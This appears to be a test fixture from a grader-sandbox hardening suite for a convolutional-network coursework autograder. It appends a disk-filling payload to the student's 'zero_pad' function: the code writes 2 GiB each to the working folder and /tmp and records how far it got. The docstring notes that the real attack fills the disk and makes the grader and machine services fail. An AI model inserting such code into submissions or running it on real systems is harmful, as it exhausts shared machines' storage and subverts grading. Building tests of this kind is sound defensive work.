"""Write 2 GiB into a file in its own folder and 2 GiB into /tmp, and record how far it got.

All eight functions are honest. The zero_pad cell writes 2 GiB in 16 MiB blocks to
``cnnattack_disk_fill.bin`` in the working folder, then to ``/tmp/cnnattack_disk_fill.bin``,
stops each at the first error, and records the bytes written in
``/tmp/cnnattack_disk_fill.txt``. The files are left in place. Bounded at 2 GiB each;
the real attack writes until the disk is full, and the grader (and every service on the
machine) fails to write.
Without protection: 4 GiB of the grading machine's disk, left behind.
"""
EXPECT = {"zero_pad", "conv_single_step", "conv_forward", "pool_forward", "conv_backward",
          "create_mask_from_window", "distribute_value", "pool_backward"}
PROBLEMS = ("file size limit", "disk limit")  # which one depends on which write fails first
APPEND = {"zero_pad": '''
import os as _os

_block = b"\\0" * (16 * 2 ** 20)
_report = []
for _target in ("cnnattack_disk_fill.bin", "/tmp/cnnattack_disk_fill.bin"):
    _written, _error = 0, ""
    try:
        with open(_target, "wb") as _handle:
            while _written < 2 * 2 ** 30:
                _handle.write(_block)
                _handle.flush()
                _written += len(_block)
    except BaseException as _e:
        _error = f"{type(_e).__name__}: {_e}"
    _report.append(f"{_target}: {_written} bytes {_error}")
print("disk-fill:", "; ".join(_report))  # the record that outlives a sandbox's private /tmp
try:
    with open("/tmp/cnnattack_disk_fill.txt", "w") as _handle:
        _handle.write("\\n".join(_report) + "\\n")
except OSError:
    pass
'''}
